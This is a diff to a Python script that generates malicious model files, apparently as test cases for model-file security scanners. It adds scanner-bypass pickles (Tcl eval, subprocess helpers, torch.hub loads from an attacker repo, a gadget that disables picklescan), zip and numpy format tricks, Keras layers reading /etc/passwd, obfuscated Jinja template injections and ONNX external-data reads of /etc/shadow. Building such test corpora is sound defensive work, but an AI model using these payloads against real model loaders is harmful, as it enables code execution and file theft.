@@ -862,6 +862,239 @@ try:
 except ImportError:
     pass
 
+# ------------------------------------------------------------------ round 2: more published bypasses
+GHSA_PS = "https://github.com/mmaitre314/picklescan/security/advisories"
+FICK_PRIV = "https://github.com/trailofbits/fickling/pull/302 (private stdlib modules)"
+# C accelerator / private stdlib modules: the public name is blocked, the C twin is not.
+case("q01_functools_c_partial.pkl",
+     p4(sg("_functools", "partial") + sg("mylib.tools", "run") + su("x") + TUPLE2 + REDUCE
+        + EMPTY_TUPLE + REDUCE),
+     "_functools.partial (C twin of functools.partial) hides the call", FICK_PRIV, "high")
+case("q02_functools_c_reduce.pkl",
+     p4(sg("_functools", "reduce") + sg("mylib.tools", "run") + EMPTY_LIST + su("a") + APPEND
+        + TUPLE2 + REDUCE),
+     "_functools.reduce calls its first argument", FICK_PRIV, "high")
+case("q03_tkinter_tcl_exec.pkl",
+     p4(sg("_tkinter", "create") + EMPTY_TUPLE + REDUCE + MEMOIZE + b"0"
+        + sg("builtins", "getattr") + binget(0) + su("eval") + TUPLE2 + REDUCE
+        + su("exec true") + TUPLE1 + REDUCE),
+     "_tkinter.create() Tcl interpreter: eval('exec true') runs a command", FICK_PRIV, "critical")
+case("q04_bootsubprocess.pkl",
+     p4(call1(sg("_bootsubprocess", "check_output"), EMPTY_LIST + TRUE + APPEND)),
+     "_bootsubprocess.check_output (CPython build helper runs a command)", FICK_PRIV, "critical")
+case("q05_testcapi.pkl",
+     p4(call1(sg("_testinternalcapi", "run_in_subinterp_with_config"), su("print(1)"))),
+     "_testinternalcapi subinterpreter run (test C API)", FICK_PRIV, "critical")
+case("q06_posixshmem.pkl", p4(call1(sg("_posixshmem", "shm_unlink"), su("/wt-x"))),
+     "_posixshmem.shm_unlink (private stdlib, touches shared memory files)", FICK_PRIV, "high")
+case("q07_pipes_template.pkl",
+     p4(sg("pipes", "Template") + EMPTY_TUPLE + REDUCE),
+     "pipes.Template runs shell pipelines", FICK + " UNSAFE_IMPORTS", "critical")
+case("q08_wsgiref_server.pkl",
+     p4(sg("wsgiref.simple_server", "make_server") + su("0.0.0.0") + b"K\x50" + NONE + b"\x87" + REDUCE),
+     "wsgiref.simple_server.make_server binds a socket", "network modules (GHSA-hgrh-qx5j-jfwx family)",
+     "critical")
+case("q09_asyncore.pkl", p4(call1(sg("asyncore", "loop"), NONE)),
+     "asyncore/asynchat/smtpd (pre-3.12 network modules)", "network modules (GHSA-hgrh-qx5j-jfwx family)",
+     "critical")
+# Native library loaders: a shared object's constructor runs at dlopen.
+case("q10_numpy_ctypeslib.pkl",
+     p4(sg("numpy.ctypeslib", "load_library") + su("libwt") + su("/tmp") + TUPLE2 + REDUCE),
+     "numpy.ctypeslib.load_library (dlopen)", "picklescan scanner.py TODO list", "critical")
+case("q11_torch_ops_load_library.pkl",
+     p4(call1(sg("torch.ops", "load_library"), su("/tmp/wt.so"))),
+     "torch.ops.load_library (dlopen a custom-op library)", "torch custom ops", "critical")
+case("q12_torch_classes_load_library.pkl",
+     p4(call1(sg("torch._classes", "classes.load_library"), su("/tmp/wt.so"))),
+     "torch._classes.classes.load_library (dlopen)", "torch custom classes", "critical")
+case("q13_torch_model_zoo.pkl",
+     p4(call1(sg("torch.utils.model_zoo", "load_url"), su("http://127.0.0.1/x.pt"))),
+     "torch.utils.model_zoo.load_url downloads and torch.loads a file", "picklescan scanner.py TODO list",
+     "critical")
+case("q14_numpy_lib_format.pkl",
+     p4(sg("numpy.lib.format", "read_array") + su("/tmp/x.npy") + b"\x88" + TUPLE2 + REDUCE),
+     "numpy.lib.format.read_array(allow_pickle=True) unpickles a file", "numpy allow_pickle", "critical")
+case("q15_numpy_fromfile_core.pkl",
+     p4(call1(sg("numpy.core.multiarray", "fromfile"), su("/etc/hostname"))),
+     "numpy.core.multiarray.fromfile (C home of numpy.fromfile)", "alias of a denied function", "high")
+case("q16_numpy_loadtxt.pkl", p4(call1(sg("numpy", "loadtxt"), su("/etc/hostname"))),
+     "numpy.loadtxt reads a file chosen by the pickle", "numpy file readers", "high")
+case("q17_torch_save.pkl",
+     p4(sg("torch", "save") + EMPTY_DICT + su("/tmp/wt-bypass.pt") + TUPLE2 + REDUCE),
+     "torch.save writes a file chosen by the pickle", "ModelAudit", "high")
+case("q18_torch_from_file.pkl",
+     p4(sg("torch", "from_file") + su("/etc/hostname") + b"\x88" + TUPLE2 + REDUCE),
+     "torch.from_file maps a file chosen by the pickle", "ModelAudit", "high")
+case("q19_pathlib_method_walk.pkl",
+     p4(sg("pathlib", "Path.write_text") + call1(sg("pathlib", "Path"), su("/tmp/wt-bypass.txt"))
+        + su("x") + TUPLE2 + REDUCE),
+     "pathlib.Path.write_text: method walk through an allowlisted class (file write)", "allowlist abuse",
+     "high")
+case("q20_numpy_tofile_walk.pkl",
+     p4(sg("numpy", "ndarray.tofile") + NONE + su("/tmp/wt-bypass.bin") + TUPLE2 + REDUCE),
+     "numpy.ndarray.tofile: method walk through an allowlisted class (file write)", "allowlist abuse",
+     "high")
+case("q21_keras_load_model.pkl",
+     p4(sg("keras.models", "load_model") + su("/tmp/x.keras") + TUPLE1 + REDUCE),
+     "keras.models.load_model loads a second model (safe_mode off inside pickles)",
+     "picklescan scanner.py TODO list", "high")
+case("q22_hf_hub_download.pkl",
+     p4(sg("huggingface_hub", "hf_hub_download") + su("attacker/repo") + su("x.pkl") + TUPLE2 + REDUCE),
+     "huggingface_hub.hf_hub_download fetches attacker files", "network download", "high")
+case("q23_transformers_remote_code.pkl",
+     p4(sg("transformers", "AutoModel.from_pretrained") + su("attacker/repo") + TUPLE1 + REDUCE),
+     "transformers AutoModel.from_pretrained (trust_remote_code downloads code)", "network download", "high")
+case("q24_logging_handler.pkl",
+     p4(call1(sg("logging.handlers", "SocketHandler"), su("127.0.0.1"))),
+     "logging.handlers.SocketHandler opens a network socket", FICK + " UNSAFE_IMPORTS", "high")
+case("q25_build_class.pkl",
+     p4(sg("builtins", "__build_class__") + NONE + su("X") + TUPLE2 + REDUCE),
+     "builtins.__build_class__ calls a function body", FICK + " GHSA-h4rm-mm56-xf63", "high")
+case("q26_object_subclasses.pkl",
+     p4(sg("builtins", "object.__subclasses__") + EMPTY_TUPLE + REDUCE),
+     "builtins.object.__subclasses__ (dunder walk from an allowlisted type)", "allowlist abuse", "high")
+case("q27_scanner_tamper.pkl",
+     p4(sg("picklescan.scanner", "_unsafe_globals.clear") + EMPTY_TUPLE + REDUCE),
+     "pickle imports a pickle scanner to disable it", "https://github.com/trailofbits/fickling/pull/249",
+     "high")
+case("q28_torch_multiprocessing.pkl",
+     p4(sg("torch.multiprocessing", "spawn") + sg("builtins", "print") + TUPLE1 + REDUCE),
+     "torch.multiprocessing.spawn starts processes", "torch", "critical")
+case("q29_syslog.pkl", p4(call1(sg("syslog", "syslog"), su("x"))),
+     "syslog (fickling UNSAFE_IMPORTS)", FICK + " UNSAFE_IMPORTS", "high")
+case("q30_torch_hub_via_nn.pkl",
+     p4(call1(sg("torch.nn.modules.module", "torch.hub.load"), su("attacker/repo"))),
+     "torch.hub.load through an allowlisted torch.nn module", "CVE-2025-10157 family", "critical")
+case("q31_zip_hidden_member.pt",
+     torch_zip([("data.pkl", SD), ("extra/config.cfg", mal)] + TENS),
+     "pickle hidden in a zip member with a non-pickle name (torch.load pickle_file=...)", "CVE-2025-1889",
+     "critical")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w", zipfile.ZIP_LZMA) as zz:
+    zz.writestr("model/data.pkl", mal)
+case("q32_zip_lzma_member.zip", zb.getvalue(), "pickle in an LZMA-compressed zip member (method 14)",
+     "zip tricks", "critical")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w", zipfile.ZIP_BZIP2) as zz:
+    zz.writestr("arr_0.npy", npy)
+case("q33_npz_bzip2.npz", zb.getvalue(), "object .npy in a bzip2-compressed npz member (np.load reads it)",
+     "numpy", "critical")
+case("q34_zip_concat.pt", torch_zip([("data.pkl", SD)] + TENS) + torch_zip([("data.pkl", mal)] + TENS),
+     "two zips concatenated: loaders read the last end-of-central-directory", "zip tricks", "critical")
+for nm, d in (("q35_descr_lt_O.npy", "'<O'"), ("q36_descr_O8.npy", "'O8'"), ("q37_descr_object_.npy", "'object_'")):
+    h_ = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % d
+    h_ += " " * (63 - (10 + len(h_)) % 64) + "\n"
+    case(nm, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h_)) + h_.encode() + mal,
+         "object dtype spelled %s (np.dtype accepts it)" % d, "numpy descr_to_dtype", "critical")
+
+# Keras: layers that read files or URLs while the model is loaded, in safe_mode.
+def kseq(layer):
+    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
+
+
+case("k13_lambda_in_activation.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
+        "module": None, "class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(),
+                                                             "defaults": None, "closure": None}}}})),
+     "__lambda__ bytecode as a Dense activation (not a Lambda layer)", "CVE-2024-3660 variants", "critical",
+     "WT-KERAS")
+case("k14_tfsmlayer.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": "TFSMLayer",
+     "config": {"name": "t", "filepath": "/tmp/wt-attacker-savedmodel", "call_endpoint": "serve"}})),
+     "TFSMLayer loads an external SavedModel (its graph runs; safe_mode did not block it)",
+     "Keras GHSA TFSMLayer safe_mode bypass (keras 3.11.3)", "high", "WT-KERAS")
+for nm, cls, vocab, src in (
+        ("k15_stringlookup_vocab_file.keras", "StringLookup", "/etc/passwd", "CVE-2025-12058"),
+        ("k16_integerlookup_vocab_url.keras", "IntegerLookup", "gs://attacker-bucket/vocab.txt",
+         "CVE-2025-12058"),
+        ("k17_textvectorization_vocab.keras", "TextVectorization", "http://127.0.0.1/vocab.txt",
+         "CVE-2025-12058")):
+    case(nm, keras_zip(kseq({"module": "keras.layers", "class_name": cls, "registered_name": cls,
+                             "config": {"name": "v", "vocabulary": vocab}})),
+         "%s vocabulary is a file path / URL read at load time" % cls, src, "high", "WT-KERAS")
+case("b16_stringlookup_inline_vocab.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "StringLookup", "registered_name": "StringLookup",
+     "config": {"name": "v", "vocabulary": ["a", "b", "c"]}})),
+     "benign StringLookup with an inline vocabulary list", "control", "none", "-")
+
+# Chat templates: dunder names rebuilt with string filters.
+for nm, tpl, src in (
+        ("g14_reverse.gguf", "{{ ()|attr('__ssalc__'|reverse)|attr('__esab__'|reverse) }}",
+         "SSTI dunder built with |reverse"),
+        ("g15_replace.gguf", "{{ ()|attr('XXclassXX'|replace('X','_')) }}", "SSTI dunder built with |replace"),
+        ("g16_lower.gguf", "{{ ()|attr('__CLASS__'|lower) }}", "SSTI dunder built with |lower"),
+        ("g17_octal.gguf", "{{ ()['\\137\\137class\\137\\137'] }}", "SSTI subscript with octal escapes"),
+        ("g18_dict_keyword.gguf", "{{ ()|attr(dict(__class__=1)|first) }}",
+         "SSTI dunder taken from a dict() keyword name"),
+        ("g19_message_attr.gguf",
+         "{% for m in messages %}{{ m|attr(m['role']) }}{% endfor %}",
+         "attr() name taken from message data (runtime-chosen attribute)")):
+    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
+         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical" if nm != "g19_message_attr.gguf"
+         else "high", "WT-GGUF")
+tc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": ssti}).encode()
+case("g20_tokenizer_config.json", tc, "SSTI in tokenizer_config.json chat_template (transformers renders it)",
+     "CVE-2024-34359 variants", "critical", "WT-")
+tc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [
+    {"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": ssti}]}).encode()
+case("g21_tokenizer_config_named.json", tc,
+     "SSTI in a named chat_template list entry of tokenizer_config.json", "CVE-2024-34359 variants", "critical",
+     "WT-")
+llama3 = ("{{- bos_token }}{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}"
+          "{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}"
+          "{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
+          "{%- set messages = messages[1:] %}{%- else %}{%- set system_message = \"\" %}{%- endif %}"
+          "{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}{{- system_message }}"
+          "{%- for message in messages %}{%- if not (message.role == 'ipython' or message.role == 'tool') %}"
+          "{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim"
+          " + '<|eot_id|>' }}{%- elif 'tool_calls' in message %}{%- set tool_call = message.tool_calls[0].function %}"
+          "{{- '{\"name\": \"' + tool_call.name + '\", ' }}{{- '\"parameters\": ' }}{{- tool_call.arguments | tojson }}"
+          "{%- else %}{{- raise_exception('Only user and assistant roles are supported!') }}{%- endif %}"
+          "{%- endfor %}{%- if add_generation_prompt %}"
+          "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")
+case("b17_llama3_template.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", llama3)]),
+     "benign Llama-3-style chat template (tools, raise_exception, tojson, slicing)", "control", "none", "-")
+qwen = ("{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
+        "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
+        "{%- if ns.multi_step_tool and message.role == \"user\" and not(message.content.startswith('<tool_response>')) %}"
+        "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
+        "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}"
+        "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}")
+case("b18_qwen_template.json", json.dumps({"chat_template": qwen, "eos_token": "<|im_end|>"}).encode(),
+     "benign Qwen-style template in tokenizer_config.json (namespace, startswith, reverse slice)", "control",
+     "none", "-")
+try:
+    import onnx
+    from onnx import helper, TensorProto
+    vals = ext_t("sv", "../../../etc/passwd")
+    idx = helper.make_tensor("si", TensorProto.INT64, [1], [0])
+    sp = helper.make_sparse_tensor(vals, idx, [4])
+    g_ = helper.make_graph([helper.make_node("Identity", ["s"], ["y"])], "g", [], yv)
+    g_.sparse_initializer.extend([sp])
+    g_.sparse_initializer[0].values.name = "s"
+    case("o09_external_sparse.onnx",
+         helper.make_model(g_, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString(),
+         "external_data on a sparse_initializer's values", "CVE-2024-27318 variants", "high", "WT-ONNX")
+    fn = helper.make_function("custom.fn", "F", ["x"], ["y"],
+                              [helper.make_node("Constant", [], ["y"], value=ext_t("c", "/etc/shadow"))],
+                              [helper.make_opsetid("", 13)])
+    g_ = helper.make_graph([helper.make_node("F", ["x"], ["y"], domain="custom.fn")], "g",
+                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], yv)
+    case("o10_external_in_function.onnx",
+         helper.make_model(g_, functions=[fn], opset_imports=[helper.make_opsetid("", 13),
+                                                              helper.make_opsetid("custom.fn", 1)]).SerializeToString(),
+         "external_data on a tensor inside a model-local function", "CVE-2024-27318 variants", "high", "WT-ONNX")
+    gr = helper.make_graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], "g",
+                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], yv)
+    case("o11_pyop_contrib.onnx",
+         helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13),
+                                              helper.make_opsetid("ai.onnx.contrib", 1)]).SerializeToString(),
+         "onnxruntime-extensions ai.onnx.contrib PyOp (runs a Python function)", "onnxruntime-extensions",
+         "medium", "WT-ONNX")
+except ImportError:
+    pass
+
+
 # ------------------------------------------------------------------ benign controls
 case("b01_state_dict.pt", torch_zip([("data.pkl", SD)] + TENS),
      "benign torch state_dict (_rebuild_tensor_v2)", "control", "none", "-")
